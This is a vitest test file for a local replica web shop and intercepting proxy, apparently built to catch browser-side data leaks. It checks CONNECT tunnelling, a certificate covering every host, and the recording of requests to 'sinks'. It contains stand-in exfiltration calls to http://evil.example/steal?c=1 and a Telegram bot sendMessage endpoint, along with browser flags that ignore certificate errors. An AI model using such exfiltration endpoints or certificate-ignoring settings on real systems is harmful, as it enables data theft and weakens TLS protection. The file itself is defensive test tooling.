// Transport: the certificate covers every host, the proxy tunnels CONNECT to the TLS server and
// forwards absolute-URI plain-HTTP requests, and the main port also speaks plain HTTP.
import { request as httpRequest } from 'node:http';
import { connect as netConnect, type Socket } from 'node:net';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALL_HOSTS } from '../../shop/config.ts';
import { chromiumHostArgs, firefoxProxyPrefs, startShop, type ShopServer } from '../../shop/index.ts';

let shop: ShopServer;

beforeAll(async () => {
  shop = await startShop();
});
afterAll(() => shop.close());

/** Opens a CONNECT tunnel through the proxy and returns the raw socket after "200". */
function tunnel(target: string): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = netConnect(shop.proxyPort, '127.0.0.1', () => {
      socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
    });
    socket.once('data', (chunk: Buffer) => {
      const line = chunk.toString('latin1').split('\r\n')[0] ?? '';
      if (line.includes(' 200 ')) resolve(socket);
      else reject(new Error(line));
    });
    socket.on('error', reject);
  });
}

/** Sends one HTTP/1.1 request over a TLS socket and returns the raw response text. */
function exchange(tls: TLSSocket, host: string, path: string): Promise<string> {
  return new Promise((resolve) => {
    let text = '';
    tls.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
    tls.on('end', () => resolve(text));
    tls.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
  });
}

function plainGet(port: number, path: string, host: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port, path, headers: { Host: host } }, (res) => {
      let body = '';
      res.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('transport', () => {
  it('logs the host:port of every CONNECT, including hosts the replica does not serve (the privacy test relies on it)', async () => {
    shop.reset();
    for (const target of ['kazcoins.nationalbank.kz:443', 'not-a-test-host.example:443']) (await tunnel(target)).destroy();
    expect(shop.connections).toEqual(['kazcoins.nationalbank.kz:443', 'not-a-test-host.example:443']);
    shop.reset();
    expect(shop.connections).toEqual([]);
  });

  it('tunnels CONNECT to the TLS server, with a certificate naming every host', async () => {
    const socket = await tunnel('kazcoins.nationalbank.kz:443');
    const tls = tlsConnect({ socket, servername: 'kazcoins.nationalbank.kz', rejectUnauthorized: false });
    await new Promise((resolve) => tls.once('secureConnect', resolve));
    const names = tls.getPeerX509Certificate()?.subjectAltName ?? '';
    for (const host of ALL_HOSTS) expect(names).toContain(`DNS:${host}`);
    const response = await exchange(tls, 'kazcoins.nationalbank.kz', '/en/');
    expect(response).toMatch(/^HTTP\/1\.1 200/);
    expect(response).toContain('Golden Tulpar');
  });

  it('tunnels CONNECT for any host, including sinks', async () => {
    const socket = await tunnel('api.telegram.org:443');
    const tls = tlsConnect({ socket, servername: 'api.telegram.org', rejectUnauthorized: false });
    expect(await exchange(tls, 'api.telegram.org', '/bot1/sendMessage')).toContain('{"ok":true}');
    expect(shop.requests.some((r) => r.host === 'api.telegram.org' && r.path === '/bot1/sendMessage')).toBe(true);
  });

  it('forwards absolute-URI plain-HTTP requests to the router', async () => {
    const reply = await plainGet(shop.proxyPort, 'http://evil.example/steal?c=1', 'evil.example');
    expect(reply).toEqual({ status: 200, body: '{"ok":true}' });
    expect(shop.requests.some((r) => r.host === 'evil.example' && r.path === '/steal?c=1')).toBe(true);
  });

  it('speaks plain HTTP on the TLS port too', async () => {
    expect(await plainGet(shop.httpsPort, '/x', 'helper-cdn.test')).toEqual({ status: 200, body: '{"ok":true}' });
  });
});

describe('browser settings', () => {
  it('maps every host to the local port for Chromium', () => {
    const [rules, ignore] = chromiumHostArgs(shop);
    expect(rules).toContain(`MAP kazcoins.nationalbank.kz:443 127.0.0.1:${shop.httpsPort}`);
    expect(rules).toContain(`MAP evil.example:443 127.0.0.1:${shop.httpsPort}`);
    expect(rules).toMatch(/^--host-resolver-rules=.*, EXCLUDE localhost$/);
    expect(ignore).toBe('--ignore-certificate-errors');
  });

  it('points Firefox at the proxy and silences its background traffic', () => {
    expect(firefoxProxyPrefs(shop)).toMatchObject({
      'network.proxy.type': 1,
      'network.proxy.ssl': '127.0.0.1',
      'network.proxy.ssl_port': shop.proxyPort,
      'network.proxy.http_port': shop.proxyPort,
      'network.proxy.no_proxies_on': '',
      'network.proxy.allow_hijacking_localhost': true,
      'app.update.enabled': false,
      'network.captive-portal-service.enabled': false,
      'toolkit.telemetry.enabled': false,
      'media.gmp-manager.url': '',
    });
  });
});
